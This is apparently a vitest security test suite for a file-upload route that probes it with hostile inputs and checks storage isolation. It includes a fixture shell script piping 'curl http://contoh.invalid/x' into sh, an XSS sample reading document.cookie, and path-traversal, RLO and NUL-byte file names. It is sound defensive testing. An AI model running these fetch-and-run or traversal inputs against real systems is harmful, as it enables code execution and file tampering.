/**
 * The upload route (app/a/[agencySlug]/files) against hostile files and
 * names, with the storage root inside a "sentinel" folder: refusals are
 * Indonesian and leave no row and no file; accepted files are stored under a
 * generated key, never under the user's name, never outside the root; the
 * download is an attachment with a safe name, and another agency gets 404.
 */
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { t } from "@/lib/i18n";
import { STORAGE_MESSAGES } from "@/lib/storage/messages";

import { createDatabase, ensureBuild, signIn, startServer, type RunningServer, type TestDatabase } from "../support/server";
import { diffSnapshots, loadFixtures, PDF_BYTES, PNG_BYTES, query, snapshot, taskAssignee, upload } from "./probe";
import { ProofRecorder } from "./report";

const proof = new ProofRecorder("uploads", "File uploads and downloads");
const SLUG = "bmcktr-sumbar";
const PORT = 4331;
const MAX_MB = 1;

let database: TestDatabase;
let server: RunningServer;
let sentinel: string;
let filesRoot: string;
let taskId: string;
let agencyId: string;
let uploader: string;

/** Every Indonesian message the route may answer a refusal with. */
const MESSAGES = new Set<string>([
  ...Object.values(STORAGE_MESSAGES).flatMap((m) => (typeof m === "string" ? [m] : [])),
  STORAGE_MESSAGES.tooLarge(MAX_MB),
  ...["PDF", "XLSX (Excel)", "DOCX (Word)", "JPEG", "PNG"].map((label) => STORAGE_MESSAGES.contentMismatch(label)),
  t.errors.unauthenticated,
  t.errors.notFound,
  t.errors.forbidden,
]);

const EXE = Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", "latin1"), Buffer.alloc(200, 0x41)]);
const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl http://contoh.invalid/x | sh\n");

interface Case {
  what: string;
  name: string;
  bytes: Buffer;
  type?: string;
  /** Expected: refused with this status, or stored. */
  expect: number | "stored";
  /** Parts of the given name that must not end up in storage. */
  marker?: string;
}

const CASES: Case[] = [
  { what: "over the size limit", name: "besar.pdf", bytes: Buffer.concat([PDF_BYTES, Buffer.alloc(MAX_MB * 1024 * 1024 + 1, 0x20)]), type: "application/pdf", expect: 413 },
  { what: "an .exe renamed .pdf", name: "laporan.pdf", bytes: EXE, type: "application/pdf", expect: 415 },
  { what: "HTML renamed .pdf", name: "laporan.pdf", bytes: HTML, type: "application/pdf", expect: 415 },
  { what: "a shell script renamed .pdf", name: "laporan.pdf", bytes: SCRIPT, type: "application/pdf", expect: 415 },
  { what: "an .exe", name: "setup.exe", bytes: EXE, type: "application/x-msdownload", expect: 415 },
  { what: "an HTML page", name: "halaman.html", bytes: HTML, type: "text/html", expect: 415 },
  { what: "an SVG with a script", name: "gambar.svg", bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), type: "image/svg+xml", expect: 415 },
  { what: "a PDF named .exe behind an RLO", name: "laporan\u202Efdp.exe", bytes: PDF_BYTES, expect: 415 },
  { what: "a PDF named .pdf.exe", name: "laporan.pdf.exe", bytes: PDF_BYTES, expect: 415 },
  { what: "zero bytes", name: "kosong.pdf", bytes: Buffer.alloc(0), type: "application/pdf", expect: 400 },
  { what: "a name with ../", name: "../../../sentinelescape1.pdf", bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape1" },
  { what: "a name with ..\\", name: "..\\..\\..\\sentinelescape2.pdf", bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape2" },
  { what: "an absolute POSIX path", name: "/tmp/sentinelescape3.pdf", bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape3" },
  { what: "an absolute Windows path", name: "C:\\Windows\\sentinelescape4.pdf", bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape4" },
  { what: "a NUL in the name", name: "sentinelescape5\u0000.png.pdf", bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape5" },
  { what: "a 300-character name", name: `${"p".repeat(280)}sentinelescape6.pdf`, bytes: PDF_BYTES, expect: "stored", marker: "sentinelescape6" },
  { what: "a name of dots only", name: "....pdf", bytes: PDF_BYTES, expect: 415 },
  { what: "a valid PDF", name: "Berita Acara TW II.pdf", bytes: PDF_BYTES, type: "application/pdf", expect: "stored", marker: "Berita" },
  { what: "a valid PNG", name: "grafik-capaian.png", bytes: PNG_BYTES, type: "image/png", expect: "stored", marker: "grafik" },
];

async function walk(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) if (!entry.isDirectory()) out.push(path.join(entry.parentPath, entry.name));
  return out;
}

describe("uploads", () => {
  beforeAll(async () => {
    await ensureBuild();
    database = await createDatabase("alur_proof_uploads");
    sentinel = await mkdtemp(path.join(os.tmpdir(), "alur-proof-sentinel-"));
    filesRoot = path.join(sentinel, "files");
    server = await startServer({ databaseUrl: database.url, port: PORT, env: { NODE_ENV: "production", ALUR_FILES_DIR: filesRoot, ALUR_MAX_UPLOAD_MB: String(MAX_MB) } });
    const fixtures = await loadFixtures(database.url, SLUG);
    taskId = fixtures.taskId;
    agencyId = fixtures.agencyId;
    uploader = (await signIn(server.baseUrl, await taskAssignee(database.url, taskId)))!;
    if (!uploader) throw new Error("the task's assignee cannot sign in");
  });

  afterAll(async () => {
    await server?.stop();
    await database?.drop();
    if (sentinel) await rm(sentinel, { recursive: true, force: true });
    await proof.save();
  });

  it("refuses hostile files with an Indonesian message and writes nothing", async () => {
    const auditor = await signIn(server.baseUrl, "auditor@sumbar.demo"); // signing in writes its own audit event
    const before = await snapshot(database.url);
    const refused = CASES.filter((c) => c.expect !== "stored");
    const extra: [string, () => ReturnType<typeof upload>, number][] = [
      ["signed out", () => upload(server.baseUrl, SLUG, null, { name: "a.pdf", bytes: PDF_BYTES }, { taskId }), 401],
      ["the auditor", () => upload(server.baseUrl, SLUG, auditor, { name: "a.pdf", bytes: PDF_BYTES }, { taskId }), 403],
      ["no file", () => upload(server.baseUrl, SLUG, uploader, null, { taskId }), 400],
      ["no target", () => upload(server.baseUrl, SLUG, uploader, { name: "a.pdf", bytes: PDF_BYTES }, {}), 400],
      ["both targets", () => upload(server.baseUrl, SLUG, uploader, { name: "a.pdf", bytes: PDF_BYTES }, { taskId, realizationId: "x" }), 400],
      ["an unknown task", () => upload(server.baseUrl, SLUG, uploader, { name: "a.pdf", bytes: PDF_BYTES }, { taskId: "tidak-ada" }), 404],
    ];
    const check = (what: string, answer: Awaited<ReturnType<typeof upload>>, status: number) => {
      proof.add("probes");
      if (answer.status >= 500) return proof.fail(`${what}: ${answer.status} ${answer.body.slice(0, 200)}`, "serverErrors");
      if (answer.status !== status) proof.fail(`${what}: answered ${answer.status} ${answer.body.slice(0, 200)}, expected ${status}`, answer.status < 300 ? "forbiddenSuccesses" : undefined);
      if (!answer.json?.error || !MESSAGES.has(answer.json.error)) proof.fail(`${what}: message ${JSON.stringify(answer.json?.error)} is not one of the Indonesian upload messages`);
    };
    for (const c of refused) check(c.what, await upload(server.baseUrl, SLUG, uploader, c, { taskId }), c.expect as number);
    for (const [what, send, status] of extra) check(what, await send(), status);
    const diff = diffSnapshots(before, await snapshot(database.url));
    if (diff.changedRows) proof.fail(`refused uploads changed rows: ${JSON.stringify(diff.tables)}`, "rowsChangedByRefused");
    const files = await walk(sentinel);
    if (files.length) proof.fail(`refused uploads left files: ${files.join(", ")}`);
    proof.note(`${refused.length + extra.length} refused uploads: no row, no file`);
  });

  it("stores accepted files under generated keys inside the root, with safe names", async () => {
    const stored: { c: Case; id: string; name: string }[] = [];
    for (const c of CASES.filter((x) => x.expect === "stored")) {
      const answer = await upload(server.baseUrl, SLUG, uploader, c, { taskId });
      proof.add("probes");
      if (answer.status >= 500) {
        proof.fail(`${c.what}: ${answer.status}`, "serverErrors");
        continue;
      }
      if (answer.status !== 201 || !answer.json?.id || !answer.json.name) {
        proof.fail(`${c.what}: answered ${answer.status} ${answer.body.slice(0, 200)}, expected 201`);
        continue;
      }
      const name = answer.json.name;
      if (/[/\\\u0000-\u001f\u202a-\u202e]/.test(name) || name.startsWith(".") || Array.from(name).length > 200) proof.fail(`${c.what}: unsafe display name ${JSON.stringify(name)}`);
      stored.push({ c, id: answer.json.id, name });
    }
    const rows = await query<{ id: string; storageKey: string; originalName: string }>(database.url, `SELECT id, "storageKey", "originalName" FROM "StoredFile" WHERE "agencyId" = $1`, [agencyId]);
    if (rows.length !== stored.length) proof.fail(`${rows.length} StoredFile rows for ${stored.length} accepted uploads`);

    // The sentinel folder: every file inside the storage root, one per row, named by its key only.
    const files = await walk(sentinel);
    const keys = new Set(rows.map((r) => r.storageKey));
    for (const file of files) {
      proof.add("probes");
      const rel = path.relative(filesRoot, file);
      if (rel.startsWith("..") || path.isAbsolute(rel)) proof.fail(`a file outside the storage root: ${file}`);
      else if (!keys.has(rel.split(path.sep).join("/"))) proof.fail(`a file no row points at: ${rel}`);
      for (const { c } of stored) if (c.marker && file.includes(c.marker)) proof.fail(`a stored path derives from the user's name: ${rel}`);
    }
    for (const row of rows) {
      if (!row.storageKey.startsWith(`${agencyId}/`)) proof.fail(`storage key outside the agency's folder: ${row.storageKey}`);
      for (const { c } of stored) if (c.marker && row.storageKey.includes(c.marker)) proof.fail(`storage key derives from the user's name: ${row.storageKey}`);
    }
    if (files.length !== rows.length) proof.fail(`${files.length} files on disk for ${rows.length} rows`);
    proof.note(`${stored.length} accepted uploads; names kept: ${stored.map((s) => JSON.stringify(s.name.length > 40 ? `${s.name.slice(0, 12)}…(${s.name.length})` : s.name)).join(", ")}`);
    expect(stored.length).toBeGreaterThan(0);

    // Downloads: the uploader's agency gets the bytes as an attachment; another agency gets 404.
    const outsider = await signIn(server.baseUrl, "admin@lumajang.demo");
    for (const { c, id } of stored) {
      for (const slug of [SLUG, "diskominfo-lumajang"]) {
        const response = await fetch(`${server.baseUrl}/a/${slug}/files/${id}`, { headers: { cookie: outsider! }, redirect: "manual" });
        await response.arrayBuffer();
        proof.add("probes");
        if (response.status !== 404) proof.fail(`another agency's administrator downloading ${c.what} via ${slug}: ${response.status}`, response.status < 300 ? "leaks" : undefined);
      }
      const own = await fetch(`${server.baseUrl}/a/${SLUG}/files/${id}`, { headers: { cookie: uploader }, redirect: "manual" });
      const bytes = Buffer.from(await own.arrayBuffer());
      proof.add("probes");
      const disposition = own.headers.get("content-disposition") ?? "";
      const ascii = /filename="([^"]*)"/.exec(disposition)?.[1];
      if (own.status !== 200 || !bytes.equals(c.bytes)) proof.fail(`${c.what}: own download ${own.status}, ${bytes.length} bytes`);
      if (!disposition.startsWith("attachment;") || ascii === undefined || /[/\\"\u0000-\u001f\u007f-\uffff]/.test(ascii)) proof.fail(`${c.what}: Content-Disposition ${JSON.stringify(disposition)}`);
      if (own.headers.get("x-content-type-options") !== "nosniff") proof.fail(`${c.what}: download without nosniff`);
      if (!["application/pdf", "image/png"].includes(own.headers.get("content-type") ?? "")) proof.fail(`${c.what}: Content-Type ${own.headers.get("content-type")}`);
    }
    // The bytes on disk are the uploaded ones.
    const first = rows[0]!;
    proof.add("probes");
    if (!(await readFile(path.join(filesRoot, first.storageKey))).length) proof.fail("a stored file is empty on disk");
  });

  it("has no failures", () => {
    expect(proof.failures).toEqual([]);
  });
});
